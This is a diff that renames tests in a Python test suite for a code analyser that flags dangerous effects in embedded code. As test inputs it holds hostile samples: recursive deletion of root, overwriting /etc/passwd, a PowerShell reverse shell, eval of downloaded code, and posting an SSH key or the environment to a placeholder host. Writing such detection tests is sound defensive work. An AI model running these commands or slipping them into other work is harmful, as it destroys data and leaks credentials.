@@ -115,7 +115,7 @@ def effect_kinds(analysis: CodeAnalysis) -> list[tuple[EffectKind, frozenset[str
         ("lftp", "!rm -rf /"),
     ],
 )
-def test_shell_commands_in_code_are_found(language: str, code: str) -> None:
+def test_shell_commands_that_embedded_code_starts_are_found(language: str, code: str) -> None:
     assert "rm -rf /" in [script.strip() for script in analyze(language, code).scripts]
 
 
@@ -138,7 +138,7 @@ def test_shell_commands_in_code_are_found(language: str, code: str) -> None:
         ("cmd", "rd /s /q home"),
     ],
 )
-def test_recursive_deletion_is_reported_as_rm(language: str, code: str) -> None:
+def test_recursive_deletion_in_embedded_code_is_reported_as_an_rm_command(language: str, code: str) -> None:
     assert [script.replace("/home", "home") for script in analyze(language, code).scripts] == [
         "rm -rf -- home"
     ]
@@ -160,13 +160,13 @@ def test_recursive_deletion_is_reported_as_rm(language: str, code: str) -> None:
         ("sql:sqlite", ".once /etc/passwd"),
     ],
 )
-def test_file_overwrite_is_found(language: str, code: str) -> None:
+def test_file_overwrite_in_embedded_code_is_found(language: str, code: str) -> None:
     analysis = analyze(language, code)
     targets = [effect.target for effect in analysis.effects if effect.kind is EffectKind.OVERWRITE]
     assert ": > /etc/passwd" in analysis.scripts or targets == ["/etc/passwd"]
 
 
-def test_loop_over_files_deletes_every_match_of_the_pattern() -> None:
+def test_deletion_in_a_loop_over_files_covers_every_match_of_the_pattern() -> None:
     loop = 'import glob, os\nfor f in glob.glob("/*"):\n    os.remove(f)'
     assert analyze("python", loop).scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
     assert analyze("python", 'import os; [os.remove(f) for f in os.listdir("/etc")]').scripts == (
@@ -176,7 +176,7 @@ def test_loop_over_files_deletes_every_match_of_the_pattern() -> None:
     assert analyze("perl", 'unlink glob("/*")').scripts == (f"rm -f -- /{STAR}", f"xargs rm -f -- /{STAR}")
 
 
-def test_home_directory_expressions_are_resolved() -> None:
+def test_home_directory_expressions_in_embedded_code_are_resolved() -> None:
     assert analyze("python", "import os; os.system(f\"rm -rf {os.environ['HOME']}\")").scripts == (
         "rm -rf $HOME",
     )
@@ -188,7 +188,7 @@ def test_home_directory_expressions_are_resolved() -> None:
     )
 
 
-def test_commands_after_chdir_run_in_the_new_directory() -> None:
+def test_commands_after_chdir_in_embedded_code_run_in_the_new_directory() -> None:
     assert analyze("python", 'import os\nos.chdir("/")\nos.system("rm -rf *")').scripts == ("cd /; rm -rf *",)
 
 
@@ -240,7 +240,7 @@ def test_commands_after_chdir_run_in_the_new_directory() -> None:
         ("unknown-language", "rm -rf /"),
     ],
 )
-def test_harmless_code_has_no_effects(language: str, code: str) -> None:
+def test_harmless_embedded_code_has_no_effects(language: str, code: str) -> None:
     assert analyze(language, code) == CodeAnalysis()
 
 
@@ -267,14 +267,14 @@ def test_harmless_code_has_no_effects(language: str, code: str) -> None:
         ("mssql", "SELECT 1 DROP TABLE users", "drop"),
     ],
 )
-def test_destructive_sql_statements_have_the_right_trait(dialect: str, code: str, trait: str) -> None:
+def test_destructive_sql_statement_has_the_trait_for_its_kind(dialect: str, code: str, trait: str) -> None:
     assert (EffectKind.DATABASE, frozenset({trait})) in effect_kinds(analyze(f"sql:{dialect}", code))
 
 
 @pytest.mark.parametrize(
     "code", ["db.dropDatabase()", "db.users.drop()", "db.users.deleteMany({})", "db.x.remove({})"]
 )
-def test_destructive_mongo_calls_are_found(code: str) -> None:
+def test_destructive_mongodb_calls_are_found(code: str) -> None:
     assert [kind for kind, _ in effect_kinds(analyze("mongo", code))] == [EffectKind.DATABASE]
 
 
@@ -297,7 +297,7 @@ def test_destructive_mongo_calls_are_found(code: str) -> None:
         ("powershell", '$c = New-Object Net.Sockets.TCPClient("x",1); iex $d'),
     ],
 )
-def test_reverse_shells_are_found(language: str, code: str) -> None:
+def test_reverse_shells_in_embedded_code_are_found(language: str, code: str) -> None:
     assert EffectKind.REVERSE_SHELL in [kind for kind, _ in effect_kinds(analyze(language, code))]
 
 
@@ -318,7 +318,7 @@ def test_reverse_shells_are_found(language: str, code: str) -> None:
         ("powershell", "I`EX (New-Object Net.WebClient).DownloadString('http://x')", "network"),
     ],
 )
-def test_evaluated_code_is_reported_with_its_source(language: str, code: str, trait: str) -> None:
+def test_code_passed_to_eval_is_reported_with_its_origin(language: str, code: str, trait: str) -> None:
     assert any(
         kind is EffectKind.RUN_UNREAD and trait in traits
         for kind, traits in effect_kinds(analyze(language, code))
@@ -336,29 +336,29 @@ def test_evaluated_code_is_reported_with_its_source(language: str, code: str, tr
         ("php", "eval($x);"),
     ],
 )
-def test_unknown_code_is_reported_as_unreadable(language: str, code: str) -> None:
+def test_execution_of_unknown_code_is_reported_as_unreadable(language: str, code: str) -> None:
     assert EffectKind.UNREADABLE in [kind for kind, _ in effect_kinds(analyze(language, code))]
 
 
-def test_decoded_code_is_analyzed() -> None:
+def test_code_that_is_decoded_and_evaluated_is_analyzed() -> None:
     encoded = base64.b64encode(b"import os; os.system('rm -rf /')").decode()
     assert "rm -rf /" in analyze("python", f"import base64; exec(base64.b64decode('{encoded}'))").scripts
 
 
-def test_file_read_and_sent_is_reported_as_upload() -> None:
+def test_embedded_code_that_reads_and_sends_a_file_is_an_upload() -> None:
     scripts = analyze(
         "python", 'import requests; requests.post("http://x", data=open("/home/u/.ssh/id_rsa").read())'
     ).scripts
     assert "curl --data-binary @/home/u/.ssh/id_rsa http://x" in scripts
 
 
-def test_endless_fork_is_a_fork_bomb() -> None:
+def test_endless_fork_loop_in_embedded_code_is_a_fork_bomb() -> None:
     assert effect_kinds(analyze("python", "import os\nwhile True: os.fork()")) == [
         (EffectKind.FORK_BOMB, frozenset())
     ]
 
 
-def test_code_over_the_length_limit_is_unreadable() -> None:
+def test_embedded_code_over_the_length_limit_is_reported_as_unreadable() -> None:
     analysis = analyze("python", "x = 1\n" * MAX_CODE_CHARS)
     assert EffectKind.UNREADABLE in [kind for kind, _ in effect_kinds(analysis)]
 
@@ -482,11 +482,11 @@ _CODE_FRAGMENTS = st.sampled_from(
         st.lists(_CODE_FRAGMENTS, max_size=25).map("".join),
     ),
 )
-def test_arbitrary_text_never_raises(language: str, code: str) -> None:
+def test_analysis_of_arbitrary_text_as_code_never_raises(language: str, code: str) -> None:
     assert isinstance(analyze(language, code), CodeAnalysis)
 
 
-def test_awk_output_piped_to_a_shell_is_found() -> None:
+def test_shell_fed_by_an_awk_pipe_is_found() -> None:
     assert analyze("awk", 'BEGIN { print "rm -rf /" | "sh" }').scripts == ("echo 'rm -rf /' | sh",)
     assert analyze("awk", '{ print "rm", $1 | "sh" }').scripts[0].endswith("| sh")
 
@@ -499,7 +499,7 @@ def test_awk_output_piped_to_a_shell_is_found() -> None:
         ("php", "while(1) pcntl_fork();"),
     ],
 )
-def test_fork_bombs_are_found_in_other_languages(language: str, code: str) -> None:
+def test_fork_bombs_in_perl_ruby_and_php_are_found(language: str, code: str) -> None:
     assert (EffectKind.FORK_BOMB, frozenset()) in effect_kinds(analyze(language, code))
 
 
@@ -524,11 +524,11 @@ def test_fork_bombs_are_found_in_other_languages(language: str, code: str) -> No
         ("tex", r"\immediate\write18{rm -rf /}"),
     ],
 )
-def test_indirect_shell_calls_are_found(language: str, code: str) -> None:
+def test_indirect_calls_of_shell_functions_in_code_are_found(language: str, code: str) -> None:
     assert "rm -rf /" in analyze(language, code).scripts
 
 
-def test_sql_in_prepared_strings_is_analyzed() -> None:
+def test_sql_in_prepared_statements_is_analyzed() -> None:
     analysis = analyze("sql:mysql", "SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s")
     assert (EffectKind.DATABASE, frozenset({"drop"})) in effect_kinds(analysis)
 
@@ -543,7 +543,7 @@ def test_sql_in_prepared_strings_is_analyzed() -> None:
         ("node", 'let c = "rm -rf /"; if (0) c = "ls"; require("child_process").exec(c)'),
     ],
 )
-def test_every_value_assigned_to_a_name_is_considered(language: str, code: str) -> None:
+def test_every_value_assigned_to_a_variable_in_code_is_considered(language: str, code: str) -> None:
     assert "rm -rf /" in analyze(language, code).scripts
 
 
@@ -571,11 +571,11 @@ def test_shell_commands_in_less_common_languages_are_found(language: str, code: 
         'import os; os.system.__call__("rm -rf /")',
     ],
 )
-def test_functions_passed_as_callbacks_are_analyzed(code: str) -> None:
+def test_functions_passed_as_callbacks_in_code_are_analyzed(code: str) -> None:
     assert "rm -rf /" in analyze("python", code).scripts
 
 
-def test_sending_the_environment_is_reported_as_upload() -> None:
+def test_embedded_code_that_sends_the_environment_is_an_upload() -> None:
     code = 'import os, requests; requests.post("http://x", json=dict(os.environ))'
     assert analyze("python", code).scripts == ("printenv | curl -d @- http://x",)
 
@@ -595,5 +595,5 @@ def test_sending_the_environment_is_reported_as_upload() -> None:
         ("sql:mysql", "execute '" * 1500),
     ],
 )
-def test_deeply_nested_or_growing_code_is_bounded(language: str, code: str) -> None:
+def test_analysis_of_deeply_nested_or_growing_code_is_bounded(language: str, code: str) -> None:
     assert all(len(script) < 20_000 for script in analyze(language, code).scripts)
